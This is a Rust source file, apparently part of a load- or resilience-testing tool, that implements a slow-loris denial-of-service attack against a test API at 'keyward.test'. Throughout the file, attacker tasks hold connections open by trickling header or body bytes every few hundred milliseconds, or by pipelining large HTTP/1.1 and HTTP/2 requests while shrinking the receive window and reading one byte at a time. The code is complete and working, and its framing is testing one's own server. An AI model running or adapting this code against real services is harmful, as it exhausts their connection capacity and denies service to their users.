//! Slow-loris: connections that stay open and are hardly used. A third sends headers slowly, a
//! third sends a body slowly, a third requests a large response and hardly reads it; or all of them
//! do the same.

use std::io;
use std::time::{Duration, Instant};

use serde_json::Value;
use tokio::io::AsyncReadExt;
use tokio::net::TcpStream;

use super::frames::{self, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE};
use super::{AttackArgs, Attacker, storm};
use crate::Outcome;

/// Number of requested and unread responses on one connection.
const UNREAD_ANSWERS: u32 = 16;
/// Receive buffer of the attacker's socket, in bytes.
const RECEIVE_BUFFER_BYTES: u32 = 4096;

#[derive(Debug, clap::Args)]
pub(crate) struct SlowLorisArgs {
    #[command(flatten)]
    attack: AttackArgs,
    /// Phase to be slow in.
    #[arg(long, value_enum, default_value = "all")]
    slow_at: SlowAt,
    /// Time between two bytes, in milliseconds.
    #[arg(long, value_name = "MILLISECONDS", default_value_t = 500)]
    period_ms: u64,
    /// Token for slow bodies; without one, most servers end the call before they read the body.
    #[arg(
        long,
        env = "LOADTEST_TOKEN",
        hide_env_values = true,
        default_value = "none"
    )]
    token: String,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
enum SlowAt {
    Headers,
    Body,
    Reading,
    All,
}

pub(crate) async fn run(args: SlowLorisArgs) -> Outcome<Value> {
    let period = Duration::from_millis(args.period_ms.max(1));
    let kinds = [SlowAt::Headers, SlowAt::Body, SlowAt::Reading];
    Ok(storm(&args.attack, |attacker| {
        let slow_at = match args.slow_at {
            SlowAt::All => kinds[attacker.number as usize % kinds.len()],
            one => one,
        };
        let token = args.token.clone();
        async move {
            while attacker.goes_on() {
                let _ = hold(&attacker, slow_at, period, &token).await;
            }
        }
    })
    .await)
}

/// Keeps one connection open for as long as the server allows.
async fn hold(attacker: &Attacker, at: SlowAt, period: Duration, token: &str) -> io::Result<()> {
    let stream = if at == SlowAt::Reading {
        let small =
            |socket: &tokio::net::TcpSocket| socket.set_recv_buffer_size(RECEIVE_BUFFER_BYTES);
        attacker.connect_with(small).await?
    } else {
        attacker.connect().await?
    };
    let since = Instant::now();
    let ended = match at {
        SlowAt::Headers | SlowAt::All => {
            let begun = "GET /apikeys HTTP/1.1\r\nhost: keyward.test\r\nx-slow: ";
            dribble(attacker, stream, begun.as_bytes(), period).await
        }
        SlowAt::Body => {
            let begun = format!(
                "POST /apikeys HTTP/1.1\r\nhost: keyward.test\r\nauthorization: Bearer {token}\r\n\
                 content-type: application/json\r\ncontent-length: 100000\r\n\r\n{{"
            );
            dribble(attacker, stream, begun.as_bytes(), period).await
        }
        SlowAt::Reading => read_slowly(attacker, stream, period).await,
    };
    attacker.ended(since, ended.is_err()).await;
    ended
}

/// Writes a byte at a time; an error means that the server has ended the connection.
async fn dribble(
    attacker: &Attacker,
    mut stream: TcpStream,
    begun: &[u8],
    period: Duration,
) -> io::Result<()> {
    attacker.send(&mut stream, begun).await?;
    attacker.sent(1);
    let mut answer = [0; 1024];
    let mut ticks = tokio::time::interval(period);
    loop {
        tokio::select! {
            _ = ticks.tick() => attacker.send(&mut stream, b"a").await?,
            read = stream.read(&mut answer) => match read? {
                0 => return Err(io::ErrorKind::UnexpectedEof.into()),
                read => tell(attacker, &answer[..read]),
            },
        }
    }
}

/// Counts an HTTP/1.1 response by its status.
fn tell(attacker: &Attacker, answer: &[u8]) {
    if let Some(status) = answer
        .strip_prefix(b"HTTP/1.1 ")
        .and_then(|rest| rest.get(..3))
    {
        attacker.tally.answered(&String::from_utf8_lossy(status));
    }
}

/// Requests far more than the connection can buffer, and reads a byte at a time.
async fn read_slowly(
    attacker: &Attacker,
    mut stream: TcpStream,
    period: Duration,
) -> io::Result<()> {
    let over_http2 = (attacker.number / 3).is_multiple_of(2);
    let asked = if over_http2 {
        let mut asked = frames::opening(&[(INITIAL_WINDOW_SIZE, 1)]);
        let block = frames::request("GET", "/openapi.json", &[]);
        for stream in 0..UNREAD_ANSWERS {
            let flags = END_HEADERS | END_STREAM;
            frames::frame(&mut asked, HEADERS, flags, 2 * stream + 1, &block);
        }
        asked
    } else {
        let request = "GET /openapi.json HTTP/1.1\r\nhost: keyward.test\r\n\r\n";
        request.repeat(UNREAD_ANSWERS as usize).into_bytes()
    };
    attacker.send(&mut stream, &asked).await?;
    attacker.sent(1);
    let mut byte = [0; 1];
    let mut ticks = tokio::time::interval(period);
    loop {
        ticks.tick().await;
        // The attacker's own timeout: this tests a server that waits for the client.
        match tokio::time::timeout(period, stream.read(&mut byte)).await {
            Ok(Ok(0)) => return Err(io::ErrorKind::UnexpectedEof.into()),
            Ok(Err(error)) => return Err(error),
            Ok(Ok(_)) | Err(_) => {}
        }
    }
}
